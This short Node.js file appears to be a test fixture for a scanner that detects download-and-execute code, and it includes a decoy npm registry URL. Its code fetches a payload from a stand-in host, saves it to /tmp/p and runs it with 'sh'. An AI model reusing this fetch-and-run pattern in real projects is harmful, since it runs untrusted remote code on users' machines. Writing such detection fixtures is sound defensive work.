// A registry URL in the file does not cover a download from elsewhere:
// the other URL the file spells may be the one fetched.
const fs = require("fs");
const https = require("https");
const { execSync } = require("child_process");
const META = "https://registry.npmjs.org/left-pad";
function get(url) {
  return new Promise((ok) => https.get(url, ok));
}
get("https://downloads.example.com/payload").then((res) => {
  res.pipe(fs.createWriteStream("/tmp/p"));
  res.on("end", () => execSync("sh /tmp/p")); // expect: download-exec
});
